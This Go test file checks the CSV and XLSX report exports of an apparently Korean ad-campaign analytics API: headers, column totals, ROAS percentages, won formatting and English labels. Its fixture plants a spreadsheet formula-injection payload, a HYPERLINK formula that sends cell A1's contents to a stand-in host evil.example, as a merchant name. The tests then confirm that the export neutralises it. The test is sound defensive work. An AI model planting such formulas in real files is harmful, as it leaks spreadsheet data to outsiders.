package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"math"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/nalgae/nalgae/models"
	"github.com/nalgae/nalgae/models/modelstest"
)

// exportEnv is the world plus a team whose merchant's name is a formula,
// and a third team's imported results, so that the report has numbers.
func exportEnv(t *testing.T) (*testEnv, *modelstest.World, string) {
	t.Helper()
	w, clone := modelstest.WorldTemplate(t)
	env := newEnvOn(t, clone(t))
	ctx := context.Background()
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"클릭")`
	m, err := env.store.CreateMerchant(ctx, modelstest.System, models.MerchantInput{Name: &evil})
	if err != nil {
		t.Fatal(err)
	}
	name := "-2+3 팀"
	team, err := env.store.CreateTeam(ctx, modelstest.System, w.ProgramA.ID, models.TeamInput{Name: &name, MerchantID: &m.ID})
	if err != nil {
		t.Fatal(err)
	}
	c := env.newCampaign(team.ID, models.KindShoppingAd, "쇼핑검색")
	rec := env.upload("/api/v1/campaigns/"+itoa(c.ID)+"/imports?dry_run=false", "searchad.xlsx", importFixture(t, "searchad.xlsx"), env.token(w.Admin))
	expectStatus(t, rec, http.StatusOK)
	return env, w, "/api/v1/programs/" + itoa(w.ProgramA.ID)
}

// The exports count drafts too here, so that the imported days show.
const everyStatus = "statuses=draft,submitted,approved,returned"

func TestReportCSV(t *testing.T) {
	env, w, program := exportEnv(t)
	city := env.token(w.City)
	for _, query := range []string{everyStatus, everyStatus + "&kind=shopping_ad&from=2025-10-02&to=2025-10-05", ""} {
		rec := env.do("GET", program+"/report.csv?"+query, nil, city)
		expectStatus(t, rec, http.StatusOK)
		if ct := rec.Header().Get("Content-Type"); ct != "text/csv; charset=utf-8" {
			t.Errorf("Content-Type %q", ct)
		}
		cd := rec.Header().Get("Content-Disposition")
		if !strings.Contains(cd, `filename="nalgae-report-`+itoa(w.ProgramA.ID)+`.csv"`) ||
			!strings.Contains(cd, "filename*=UTF-8''%EB%B6%80%EC%82%B0") { // 부산…
			t.Errorf("Content-Disposition %q", cd)
		}
		body := rec.Body.Bytes()
		if !bytes.HasPrefix(body, []byte("\ufeff")) {
			t.Fatal("no byte-order mark")
		}
		rows, err := csv.NewReader(bytes.NewReader(body[3:])).ReadAll()
		if err != nil {
			t.Fatalf("the CSV does not parse back: %v", err)
		}
		report := decode[models.ProgramReport](t, env.do("GET", program+"/report?"+query, nil, city))
		if len(rows) != len(report.Teams)+1 || rows[0][0] != "팀" || rows[0][8] != "광고수익률(%)" {
			t.Fatalf("%d rows, header %q", len(rows), rows[0])
		}
		var spend int64
		for i, team := range report.Teams {
			row := rows[i+1]
			if row[0] != csvText(team.TeamName) || row[1] != csvText(team.MerchantName) {
				t.Errorf("row %d names %q %q", i, row[0], row[1])
			}
			n, err := strconv.ParseInt(row[2], 10, 64)
			if err != nil || n != team.Total.SpendKRW {
				t.Errorf("row %d spend %q, want %d", i, row[2], team.Total.SpendKRW)
			}
			spend += n
			if roas := team.AdRoasPct; (roas == nil) != (row[8] == "") {
				t.Errorf("row %d ROAS %q, want %v", i, row[8], roas)
			} else if roas != nil && math.Abs(mustFloat(t, row[8])-*roas) > 5e-5 {
				t.Errorf("row %d ad ROAS %q, want %v", i, row[8], *roas)
			}
			// Each kind's ROAS follows, so that a highlight's figure is in the table.
			for j, k := range models.Kinds {
				want := (*float64)(nil)
				if b, ok := team.ByKind[k]; ok {
					want = b.RoasPct
				}
				cell := row[9+j]
				if (want == nil) != (cell == "") || want != nil && math.Abs(mustFloat(t, cell)-*want) > 5e-5 {
					t.Errorf("row %d %s ROAS %q, want %v", i, k, cell, ptrText(want))
				}
			}
			// One column per growth method, then the targets' count (SPEC §10).
			col := map[string]int{}
			for j, h := range rows[0] {
				col[h] = j
			}
			for _, h := range []string{"전후 비교 성장률(%)", "전년 동기 대비(%)", "계절 조정(%)", "비교군 대비(%p)", "목표 수", "목표 달성률"} {
				if _, ok := col[h]; !ok {
					t.Fatalf("no column %s in %q", h, rows[0])
				}
			}
			if got := row[col["목표 수"]]; got != strconv.Itoa(len(team.Targets)) {
				t.Errorf("row %d targets %q, want %d", i, got, len(team.Targets))
			}
			if m := team.SalesGrowthMethods; m != nil && (m.SamePeriodLastYear.ValuePct == nil) != (row[col["전년 동기 대비(%)"]] == "") {
				t.Errorf("row %d same period last year %q, want %v", i, row[col["전년 동기 대비(%)"]], m.SamePeriodLastYear.ValuePct)
			}
		}
		if spend != report.Totals.SpendKRW {
			t.Errorf("the spend column sums to %d, the report says %d", spend, report.Totals.SpendKRW)
		}
	}
	rec := env.do("GET", program+"/report.csv?"+everyStatus, nil, city)
	text := rec.Body.String()
	for _, want := range []string{`"'=HYPERLINK(""http://evil.example/?x=""&A1,""클릭"")"`, "'-2+3 팀", "이도공감"} {
		if !strings.Contains(text, want) {
			t.Errorf("the CSV lacks %s:\n%s", want, text)
		}
	}
	if strings.Contains(text, ",=") || strings.Contains(text, "\n=") {
		t.Error("a cell begins with =")
	}
	en := env.do("GET", program+"/report.csv?lang=en", nil, city).Body.String()
	if !strings.HasPrefix(en, "\ufeffTeam,Merchant,Spend (KRW)") {
		t.Errorf("English header: %.80q", en)
	}
	expectStatus(t, env.do("GET", program+"/report.csv?kind=nope", nil, city), http.StatusUnprocessableEntity)
}

func csvText(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return "'" + s
	}
	return s
}

func TestReportXLSX(t *testing.T) {
	env, w, program := exportEnv(t)
	prof := env.token(w.Prof)
	for _, lang := range []string{"ko", "en"} {
		rec := env.do("GET", program+"/report.xlsx?lang="+lang+"&"+everyStatus, nil, prof)
		expectStatus(t, rec, http.StatusOK)
		if ct := rec.Header().Get("Content-Type"); ct != contentTypeXLSX {
			t.Errorf("Content-Type %q", ct)
		}
		f, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes()))
		if err != nil {
			t.Fatalf("excelize cannot open the export: %v", err)
		}
		defer f.Close()
		sheets := map[string][]string{"ko": {"요약", "팀별", "일별"}, "en": {"Summary", "Teams", "Daily"}}[lang]
		if got := f.GetSheetList(); strings.Join(got, ",") != strings.Join(sheets, ",") {
			t.Fatalf("sheets %v, want %v", got, sheets)
		}
		report := decode[models.ProgramReport](t, env.do("GET", program+"/report?lang="+lang+"&"+everyStatus, nil, prof))
		teams := sheets[1]

		// The spend column (C) holds numbers that sum to the total, shown in won.
		var sum float64
		for i := range report.Teams {
			cell := "C" + strconv.Itoa(i+2)
			raw, err := f.GetCellValue(teams, cell, excelize.Options{RawCellValue: true})
			if err != nil {
				t.Fatal(err)
			}
			typ, _ := f.GetCellType(teams, cell)
			n, err := strconv.ParseFloat(raw, 64)
			if err != nil || (typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset) {
				t.Fatalf("%s is %q (type %v), not a number", cell, raw, typ)
			}
			sum += n
		}
		if int64(sum) != report.Totals.SpendKRW || report.Totals.SpendKRW == 0 {
			t.Errorf("spend cells sum to %v, the report says %d", sum, report.Totals.SpendKRW)
		}
		style, _ := f.GetCellStyle(teams, "C2")
		if s, err := f.GetStyle(style); err != nil || s.CustomNumFmt == nil || !strings.Contains(*s.CustomNumFmt, "₩") {
			t.Errorf("spend is not formatted as won: %+v", s)
		}
		// The ad ROAS (I) is a fraction formatted as a percentage.
		for i, team := range report.Teams {
			if team.AdRoasPct == nil {
				continue
			}
			cell := "I" + strconv.Itoa(i+2)
			raw, _ := f.GetCellValue(teams, cell, excelize.Options{RawCellValue: true})
			n, err := strconv.ParseFloat(raw, 64)
			if err != nil || !closeTo(n, *team.AdRoasPct/100) {
				t.Errorf("%s = %q, want %v", cell, raw, *team.AdRoasPct/100)
			}
			style, _ := f.GetCellStyle(teams, cell)
			if s, _ := f.GetStyle(style); s.CustomNumFmt == nil || *s.CustomNumFmt != "0.0%" {
				t.Errorf("%s is not formatted as a percentage", cell)
			}
		}
		// Names neutralised; Korean intact.
		var names []string
		for i := range report.Teams {
			v, _ := f.GetCellValue(teams, "B"+strconv.Itoa(i+2))
			names = append(names, v)
		}
		if !strings.Contains(strings.Join(names, "|"), `'=HYPERLINK(`) || !strings.Contains(strings.Join(names, "|"), "이도공감") {
			t.Errorf("merchant names %q", names)
		}
		// The daily sheet: real dates and the series' spend.
		rows, err := f.GetRows(sheets[2], excelize.Options{RawCellValue: true})
		if err != nil || len(rows) != len(report.Series)+1 {
			t.Fatalf("daily rows %d, series %d: %v", len(rows), len(report.Series), err)
		}
		var daily float64
		for _, r := range rows[1:] {
			n, err := strconv.ParseFloat(r[1], 64)
			if err != nil {
				t.Fatalf("daily spend %q", r[1])
			}
			daily += n
		}
		if int64(daily) != report.Totals.SpendKRW {
			t.Errorf("daily spend sums to %v", daily)
		}
		if v, _ := f.GetCellValue(sheets[2], "A2"); v != report.Series[0].Date.String() {
			t.Errorf("the first day shows as %q, want %s", v, report.Series[0].Date)
		}
	}
}

func mustFloat(t *testing.T, s string) float64 {
	t.Helper()
	f, err := strconv.ParseFloat(s, 64)
	if err != nil {
		t.Fatalf("%q is not a number", s)
	}
	return f
}

func ptrText(v *float64) string {
	if v == nil {
		return "null"
	}
	return strconv.FormatFloat(*v, 'f', -1, 64)
}
